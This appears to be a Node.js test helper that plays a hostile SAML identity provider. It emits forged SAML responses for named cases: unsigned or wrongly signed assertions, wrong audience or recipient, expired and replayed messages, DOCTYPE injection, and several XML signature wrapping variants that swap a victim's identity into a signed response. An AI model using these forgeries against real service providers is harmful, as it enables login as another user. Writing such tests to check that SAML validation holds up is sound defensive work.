// SAML responses as an attacker makes them. `node hostile.cjs` prints a line of JSON with the metadata of its identity
// provider. For each line { name, address, acs, audience, person, victim } that it reads, where `address` is the one to
// which the application sent the browser, it prints a line { SAMLResponse, RelayState }.
const { createInterface } = require("node:readline");
const { inflateRawSync } = require("node:zlib");
const samlp = require("samlp");
const { make } = require("./keys.cjs");

const issuer = "http://localhost/hostile";
const [own, other] = [make(), make()];
const pem = own.cert.replace(/-----[^-]+-----|\s/g, "");
const metadata = `<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="${issuer}"><IDPSSODescriptor \
protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><KeyDescriptor use="signing"><KeyInfo \
xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>${pem}</X509Certificate></X509Data></KeyInfo>\
</KeyDescriptor><SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" \
Location="http://localhost:9/sso"/></IDPSSODescriptor></EntityDescriptor>`;
console.log(JSON.stringify({ metadata }));

const mint = (options, id) => {
  const user = { id, emails: [{ value: id }], displayName: id, name: { givenName: "Given", familyName: "Family" } };
  return new Promise((done, failed) =>
    samlp.getSamlResponse(options, user, (error, xml) => (error ? failed(error) : done(xml))));
};
const SIGNATURE = /<Signature [\s\S]*?<\/Signature>/;
const ASSERTION = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;
const inside = (signature, content) => signature.replace("</Signature>", `<Object>${content}</Object></Signature>`);
const extensions = (content) => `<samlp:Extensions>${content}</samlp:Extensions>`;

// How the request differs from a genuine one, and then the response.
const OPTIONS = {
  unsigned: { signAssertion: false, signResponse: false },
  "signed with another key": { key: other.key, cert: other.cert },
  "signed with SHA-1": { signatureAlgorithm: "rsa-sha1", digestAlgorithm: "sha1" },
  "another issuer": { issuer: "http://localhost/another" },
  "another audience": { audience: "https://another.example.com/saml" },
  "another recipient": { recipient: "https://another.example.com/acs" },
  "another destination": { destination: "https://another.example.com/acs" },
  "another request": { inResponseTo: "_0123456789abcdef0123456789abcdef" },
  "no request": { inResponseTo: undefined },
  "expired an hour ago": { lifetimeInSeconds: -3600 },
  "expired four minutes ago": { lifetimeInSeconds: -240 },
};
const CHANGES = {
  altered: (xml, { person, victim }) => xml.replaceAll(person, victim),
  "with a DOCTYPE": (xml) => `<!DOCTYPE r [<!ENTITY e "x">]>${xml}`,
  "forged before": wrapped((signed, forged) => forged + signed),
  "forged after": wrapped((signed, forged) => signed + forged),
  "forged around": wrapped((signed, forged) => forged.replace("</saml:Assertion>", `${signed}</saml:Assertion>`)),
  "signed in an object": wrapped((signed, forged, signature) => {
    const plain = signed.replace(SIGNATURE, "");
    return forged.replace("</saml:Issuer>", `</saml:Issuer>${inside(signature, plain)}`);
  }),
  "signed in extensions": (xml, people) => {
    const signed = xml.match(ASSERTION)[0];
    return xml.replace(signed, forge(signed, people)).replace("<samlp:Status>", `${extensions(signed)}<samlp:Status>`);
  },
  "forged with the same ID": wrapped((signed, forged, _, id) => forged.replace(/ID="[^"]*"/, `ID="${id}"`) + signed),
  "signature moved": wrapped((signed, forged, signature) =>
    forged.replace("</saml:Issuer>", `</saml:Issuer>${signature}`) + signed.replace(SIGNATURE, "")),
  // These are for a provider that signs the response.
  "response in an object": (xml, people) => {
    const signature = xml.match(SIGNATURE)[0];
    const plain = xml.replace(SIGNATURE, "");
    return forge(plain, people).replace("</saml:Issuer>", `</saml:Issuer>${inside(signature, plain)}`);
  },
  "response in extensions": (xml, people) =>
    forge(xml.replace(SIGNATURE, ""), people).replace("<samlp:Status>", `${extensions(xml)}<samlp:Status>`),
};

/** The XML about the victim, without a signature, with other IDs. */
function forge(xml, { person, victim }) {
  return xml.replace(SIGNATURE, "").replaceAll(person, victim).replace(/ ID="_/g, ' ID="_f');
}

function wrapped(make) {
  return (xml, people) => {
    const signed = xml.match(ASSERTION)[0];
    const made = make(signed, forge(signed, people), signed.match(SIGNATURE)[0], signed.match(/ID="([^"]*)"/)[1]);
    return xml.replace(signed, () => made);
  };
}

let last = null;
createInterface({ input: process.stdin }).on("line", async (line) => {
  const { name, address, acs, audience, person, victim, signs = "assertion" } = JSON.parse(line);
  const query = new URL(address).searchParams;
  const request = inflateRawSync(Buffer.from(query.get("SAMLRequest"), "base64")).toString();
  const options = {
    issuer, ...own, audience, recipient: acs, destination: acs, inResponseTo: request.match(/ID="([^"]+)"/)[1],
    lifetimeInSeconds: 300, signatureAlgorithm: "rsa-sha256", digestAlgorithm: "sha256",
    signAssertion: signs === "assertion", signResponse: signs === "response", ...OPTIONS[name],
  };
  let xml;
  if (name === "replayed") {
    xml = last;
  } else if (name === "replayed with another ID") {
    xml = last.replace(/ ID="_/, ' ID="_f');
  } else {
    xml = await mint(options, person);
    xml = CHANGES[name] ? CHANGES[name](xml, { person, victim }) : xml;
    last = xml;
  }
  const RelayState = query.get("RelayState");
  console.log(JSON.stringify({ SAMLResponse: Buffer.from(xml).toString("base64"), RelayState }));
});
